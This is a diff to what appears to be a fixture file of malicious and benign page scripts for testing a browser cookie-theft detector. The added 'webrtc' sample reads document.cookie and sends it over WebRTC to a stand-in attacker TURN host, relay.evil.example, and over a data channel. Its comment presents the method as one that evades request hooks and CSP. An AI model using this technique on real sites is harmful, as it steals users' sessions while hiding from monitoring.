@@ -333,6 +333,41 @@ export const MAIN_WORLD_SCRIPTS = {
 })();`,
 
   /**
+   * Carries the cookie off over WebRTC, which no request hook, webRequest or CSP sees: a TURN relay given the
+   * cookie as its username (through Chromium's `webkitRTCPeerConnection` alias where there is one); a
+   * connection to a peer hard-coded in the script, its address in the answer's SDP and trickled in (as the
+   * 2026 skimmers did; the answer is made by a second connection in the page, the address put in); and a data
+   * channel that opens — to a connection in the page standing in for the peer — and sends the cookie.
+   */
+  webrtc: `(async () => {
+  const cookie = document.cookie;
+  const Peer = window.webkitRTCPeerConnection || RTCPeerConnection;
+  new Peer({ iceServers: [{ urls: 'turn:relay.evil.example:3478?transport=udp', username: encodeURIComponent(cookie).slice(0, 200), credential: 'x' }] });
+  const pc = new RTCPeerConnection();
+  pc.createDataChannel('loot');
+  await pc.setLocalDescription(await pc.createOffer());
+  const answerer = new RTCPeerConnection();
+  await answerer.setRemoteDescription(pc.localDescription);
+  await answerer.setLocalDescription(await answerer.createAnswer());
+  const sdp = answerer.localDescription.sdp.replace(/(a=setup:\\w+)/, '$1\\r\\na=candidate:1 1 udp 2122260223 203.0.113.7 3479 typ host');
+  await pc.setRemoteDescription({ type: 'answer', sdp });
+  await pc.addIceCandidate({ candidate: 'candidate:2 1 udp 2122260223 198.51.100.9 3479 typ host', sdpMid: '0' });
+  const out = new RTCPeerConnection();
+  const peer = new RTCPeerConnection();
+  out.onicecandidate = (e) => e.candidate && peer.addIceCandidate(e.candidate).catch(() => {});
+  peer.onicecandidate = (e) => e.candidate && out.addIceCandidate(e.candidate).catch(() => {});
+  const channel = out.createDataChannel('loot');
+  channel.onopen = () => {
+    channel.send('c=' + document.cookie);
+    window.__webrtcSent = true;
+  };
+  await out.setLocalDescription(await out.createOffer());
+  await peer.setRemoteDescription(out.localDescription);
+  await peer.setLocalDescription(await peer.createAnswer());
+  await out.setRemoteDescription(peer.localDescription);
+})();`,
+
+  /**
    * The cookie in the URL of connections other than a WebSocket: an EventSource stream (a string URL, and
    * a URL object), and a WebTransport session where the browser has it (its connection fails: the attempt
    * is what Saq can see).
@@ -497,6 +532,24 @@ export const BENIGN = {
   printFrame.style.display = 'none';
   document.body.appendChild(printFrame);
   printFrame.contentWindow.document.title = 'print';
+})();`,
+  /**
+   * The shop's own support chat over WebRTC: a STUN server of its own, and a data channel that opens — to a
+   * connection in the page standing in for the operator — and carries a message with the session cookie.
+   */
+  'peer-chat': `(async () => {
+  const chat = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.kazcoins.nationalbank.kz:3478' }] });
+  const operator = new RTCPeerConnection();
+  chat.onicecandidate = (e) => e.candidate && operator.addIceCandidate(e.candidate).catch(() => {});
+  operator.onicecandidate = (e) => e.candidate && chat.addIceCandidate(e.candidate).catch(() => {});
+  operator.ondatachannel = (e) => (e.channel.onmessage = () => e.channel.send('operator: hello'));
+  const channel = chat.createDataChannel('support');
+  channel.onmessage = () => (window.__chatted = true);
+  channel.onopen = () => channel.send('session ' + document.cookie + ': I cannot add a coin');
+  await chat.setLocalDescription(await chat.createOffer());
+  await operator.setRemoteDescription(chat.localDescription);
+  await operator.setLocalDescription(await operator.createAnswer());
+  await chat.setRemoteDescription(operator.localDescription);
 })();`,
   /**
    * A first-party gallery that sets its own pictures every way the image-pixel hooks watch — srcset,
